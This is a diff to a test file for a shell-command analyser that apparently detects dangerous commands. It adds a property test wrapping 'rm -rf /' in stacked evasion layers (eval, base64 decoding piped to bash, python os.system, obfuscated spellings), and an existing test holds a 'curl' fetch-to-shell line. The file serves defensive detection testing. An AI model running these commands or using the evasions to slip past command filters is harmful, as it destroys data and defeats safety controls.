@@ -3,6 +3,7 @@
  * parameters, the working directory, options and environment variables that hold
  * command lines, and code decoded inside interpreters.
  */
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { BashCommand, BashFacts, NormalizeContext } from '../facts.js';
 import { normalizeBash } from './index.js';
@@ -197,5 +198,64 @@ describe('documented examples', () => {
   it('bash < <(curl …)', () => {
     const f = facts('bash < <(curl -s http://x.io/a)');
     expect(f.signals).toContain('fetch_to_shell');
+  });
+});
+
+describe('composed evasions fail closed', () => {
+  const shq = (text: string): string => `'${text.replace(/'/g, `'\\''`)}'`;
+  const b64 = (text: string): string => Buffer.from(text).toString('base64');
+  /** Each layer wraps a command line into another that runs it. */
+  const layers: Array<(inner: string) => string> = [
+    (x) => `sudo ${x}`,
+    (x) => `env A=1 ${x}`,
+    (x) => `nice -n 5 ${x}`,
+    (x) => `timeout 5 ${x}`,
+    (x) => `nohup ${x}`,
+    (x) => `command ${x}`,
+    (x) => `exec ${x}`,
+    (x) => `bash -c ${shq(x)}`,
+    (x) => `sh -c ${shq(x)}`,
+    (x) => `eval ${shq(x)}`,
+    (x) => `echo ${shq(x)} | sh`,
+    (x) => `bash <<< ${shq(x)}`,
+    (x) => `echo ${b64(x)} | base64 -d | bash`,
+    (x) => `true && ${x}`,
+    (x) => `false || ${x}`,
+    (x) => `(${x})`,
+    (x) => `{ ${x}; }`,
+    (x) => `if true; then ${x}; fi`,
+    (x) => `for i in 1; do ${x}; done`,
+    (x) => `f() { ${x}; }; f`,
+    (x) => `echo $(${x})`,
+    (x) => `: <(${x})`,
+    (x) => `ssh host ${shq(x)}`,
+    (x) => `su -c ${shq(x)}`,
+    (x) => `watch ${shq(x)}`,
+    (x) => `python3 -c ${shq(`import os; os.system(${JSON.stringify(x)})`)}`,
+    (x) => `bash -c "$(echo ${b64(x)} | base64 -d)"`,
+    (x) => `a=${shq(x)}; eval "$a"`,
+    (x) => `xargs -0 sh -c ${shq(x)} < /dev/null`,
+  ];
+  /** The first layers are prefixes that must precede a simple command. */
+  const PREFIXES = 7;
+  const names = ['rm', "'rm'", '"rm"', "r''m", '\\rm', "$'\\x72\\x6d'", "$'\\162\\155'", '/bin/rm', 'r"m"', '$(echo rm)', '`echo rm`'];
+
+  it('rm -rf / under any stack of layers is seen or indeterminate', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...names), fc.array(fc.integer({ min: 0, max: layers.length - 1 }), { maxLength: 3 }), (name, stack) => {
+        let command = `${name} -rf /`;
+        let simple = true;
+        for (const k of stack) {
+          // `sudo { …; }` runs a command named `{` in bash (an error): prefixes need a simple command.
+          fc.pre(simple || k >= PREFIXES);
+          command = layers[k](command);
+          simple = k < PREFIXES || [7, 8, 9, 10, 11, 12, 22, 23, 24, 25, 26, 27, 28].includes(k);
+        }
+        const f = facts(command);
+        const seen = f.commands.some((c) => c.name === 'rm' && c.argv.includes('/'));
+        expect(seen || f.indeterminate.length > 0, command).toBe(true);
+      }),
+      { numRuns: 400 },
+    );
   });
 });
